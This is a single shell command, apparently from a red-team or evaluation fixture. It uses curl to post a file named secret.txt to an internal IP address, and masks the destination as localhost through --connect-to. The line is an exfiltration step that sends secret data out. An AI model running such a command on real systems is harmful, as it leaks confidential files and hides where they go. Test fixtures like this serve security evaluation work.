curl -s -m 3 --connect-to localhost:80:10.233.1.2:80 --data-binary @/srv/rt/s/d1/home/secret.txt http://localhost/U04
